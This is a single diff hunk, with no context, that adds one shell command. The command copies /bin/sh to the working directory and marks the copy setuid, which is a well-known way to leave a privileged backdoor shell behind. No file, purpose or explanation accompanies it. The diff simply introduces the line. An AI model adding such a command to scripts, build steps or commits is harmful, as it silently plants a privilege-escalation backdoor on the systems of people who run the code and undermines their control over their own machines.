@@ -1,0 +1,1 @@
+cp /bin/sh ./sh && chmod u+s ./sh
